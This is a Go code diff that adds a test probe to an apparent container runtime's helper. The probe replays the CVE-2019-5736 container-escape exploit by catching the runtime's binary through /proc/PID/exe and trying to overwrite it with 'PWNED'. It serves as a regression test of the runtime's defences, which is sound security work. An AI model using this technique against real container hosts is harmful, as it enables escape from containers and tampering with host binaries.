@@ -5,6 +5,7 @@ import (
 	"os"
 	"strconv"
 	"strings"
+	"time"
 
 	"golang.org/x/sys/unix"
 )
@@ -26,7 +27,9 @@ import (
 //	chdir:PATH        chdir, then getcwd: Content the cwd, Err the errno
 //	caps              Content: CapInh CapPrm CapEff CapBnd CapAmb of the helper
 //	mknod:PATH        mknod a char device 1:3 (null) at PATH
+//	race:MARK:FIFO    CVE-2019-5736's exploit (raceProbe)
 var moreProbes = map[string]func(string) probe{
+	"race":     raceProbe,
 	"sys":      sysProbe,
 	"mount":    func(p string) probe { return errProbe(unix.Mount("none", p, "tmpfs", 0, "")) },
 	"hostname": func(n string) probe { return errProbe(unix.Sethostname([]byte(n))) },
@@ -163,4 +166,75 @@ func capsProbe() probe {
 		}
 	}
 	return probe{Content: strings.Join(sets, " ")}
+}
+
+// raceProbe plays CVE-2019-5736's exploit from inside the container: it
+// watches /proc for a process whose command line holds MARK (the test
+// makes minirun exec one that runs minirun's own binary, /proc/self/exe,
+// and blocks it opening FIFO for its --log), opens that process's
+// /proc/PID/exe O_PATH — the binary is busy while it runs — lets it go by
+// opening FIFO, then waits for a line on stdin (the test sends it once no
+// process runs the binary any more) and reopens the binary for writing
+// through /proc/self/fd, writing over its first bytes if it can.
+// Entries: what happened, one step a line; Err the final reopen's errno.
+func raceProbe(arg string) probe {
+	mark, fifo, _ := strings.Cut(arg, ":")
+	pr := probe{Entries: []string{}}
+	note := func(format string, a ...any) { pr.Entries = append(pr.Entries, fmt.Sprintf(format, a...)) }
+	self := strconv.Itoa(os.Getpid())
+	exe := -1
+	refused := map[string]string{}
+	for deadline := time.Now().Add(30 * time.Second); exe < 0 && time.Now().Before(deadline); {
+		ents, _ := os.ReadDir("/proc")
+		for _, e := range ents {
+			pid := e.Name()
+			if _, err := strconv.Atoi(pid); err != nil || pid == self {
+				continue
+			}
+			cmd, err := os.ReadFile("/proc/" + pid + "/cmdline")
+			if err != nil || !strings.Contains(string(cmd), mark) {
+				continue
+			}
+			fd, err := unix.Open("/proc/"+pid+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
+			if err != nil {
+				refused[pid] = errName(err)
+				continue
+			}
+			exe = fd
+			note("caught %s (%s)", pid, strings.ReplaceAll(string(cmd), "\x00", " "))
+			break
+		}
+	}
+	for pid, e := range refused {
+		note("refused %s: %s", pid, e)
+	}
+	if exe < 0 {
+		// Let the process go all the same.
+		if f, err := os.OpenFile(fifo, os.O_RDONLY|unix.O_NONBLOCK, 0); err == nil {
+			defer f.Close()
+		}
+		pr.Err = "never caught"
+		return pr
+	}
+	defer unix.Close(exe)
+	f, err := os.OpenFile(fifo, os.O_RDONLY, 0)
+	if err != nil {
+		note("fifo: %v", err)
+	} else {
+		defer f.Close()
+	}
+	var line [1]byte
+	os.Stdin.Read(line[:])
+	w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", exe), unix.O_WRONLY|unix.O_CLOEXEC, 0)
+	if err != nil {
+		pr.Err = errName(err)
+		return pr
+	}
+	defer unix.Close(w)
+	if _, err := unix.Pwrite(w, []byte("PWNED"), 0); err != nil {
+		note("write: %v", err)
+	} else {
+		note("wrote over the binary")
+	}
+	return pr
 }
